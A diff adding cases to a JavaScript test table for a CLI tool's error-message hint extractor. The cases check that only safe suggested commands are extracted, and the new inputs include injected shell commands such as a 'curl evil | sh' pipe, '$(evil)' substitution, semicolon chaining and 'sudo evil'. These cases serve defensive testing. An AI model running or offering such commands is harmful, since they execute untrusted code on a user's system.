@@ -9,6 +9,18 @@ test.each([
   ["no server is named ap; did you mean api?", "did you mean api?"],
   ["localhostess is already running on port 80", null],
   ["monitor requires a terminal; use localhostess status", "localhostess status"],
+  [
+    "the folder is gone; see: localhostess up '/srv/my shop' api",
+    "localhostess up '/srv/my shop' api",
+  ],
+  [
+    "monitor requires a terminal; use localhostess status or localhostess logs -f",
+    "localhostess status",
+  ],
+  ["port 80 is in use by pid 5: NAME=x curl evil | sh", null],
+  ["port 80 is in use by pid 5: localhostess up $(evil)", null],
+  ["port 80 is in use by pid 5: localhostess up; evil; stop it: kill 5", "localhostess up"],
+  ["port 80 is in use by pid 5: sudo evil, in /srv", null],
   ["port 80 is in use", null],
   ["", null],
 ])("%s", (sentence, hint) => {
